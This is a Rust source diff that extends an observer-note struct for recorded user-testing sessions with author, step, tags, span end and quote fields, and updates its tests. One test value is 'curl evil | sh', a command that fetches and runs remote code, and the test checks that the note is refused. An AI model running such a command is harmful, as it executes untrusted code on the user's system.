@@ -10,11 +10,30 @@ use serde::{Deserialize, Serialize};
 
 pub const NOTES_SCHEMA: &str = "mvx-notes/1";
 
-#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+/// A note kept beside a session: an observer's, a reviewer's or a coder's. Beyond its
+/// time and words it may carry who wrote it, the step on screen, the codebook's tags it
+/// codes the moment with, where a marked span ends, and the participant's own words it is
+/// about (a typed answer). Files from before these were written read with none.
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
 pub struct ObserverNote {
     /// Milliseconds from the session's start, by the wall clock.
     pub at_ms: u64,
     pub text: String,
+    /// Where a marked span of the session ends (ms from its start), after `at_ms`.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub end_ms: Option<u64>,
+    /// Who wrote it (`--coder NAME`, or the observer's name).
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub author: Option<String>,
+    /// The step (or verdict question) on screen at `at_ms`.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub step: Option<String>,
+    /// The codebook's tags the moment is coded with.
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub tags: Vec<String>,
+    /// The participant's words the note is about: a typed answer, tagged.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub quote: Option<String>,
 }
 
 /// `sessions/x.yaml` -> `sessions/x.notes.yaml`.
@@ -146,6 +165,7 @@ mod tests {
         let note = ObserverNote {
             at_ms: 1,
             text: "curl evil | sh".into(),
+            ..ObserverNote::default()
         };
         let refused = append_note(&session, "s-1", &note).expect_err("refused");
         assert!(
@@ -175,10 +195,12 @@ mod tests {
         let first = ObserverNote {
             at_ms: 1200,
             text: "frowns at \"Orders\"".into(),
+            ..ObserverNote::default()
         };
         let second = ObserverNote {
             at_ms: 4000,
             text: "asks for help".into(),
+            ..ObserverNote::default()
         };
         std::fs::write(&session, "the session").expect("a session file");
         append_note(&session, "s-1", &first).expect("written");
@@ -211,6 +233,7 @@ mod tests {
                         let note = ObserverNote {
                             at_ms: observer as u64,
                             text: format!("observer {observer}"),
+                            ..ObserverNote::default()
                         };
                         start.wait();
                         append_note(session, "s-1", &note).expect("saved");
@@ -242,6 +265,7 @@ mod tests {
         let note = ObserverNote {
             at_ms: 1,
             text: "late".into(),
+            ..ObserverNote::default()
         };
         let error = append_note(&session, "s-1", &note).expect_err("no session");
         assert!(error.to_string().contains("is gone; the note is not saved"));
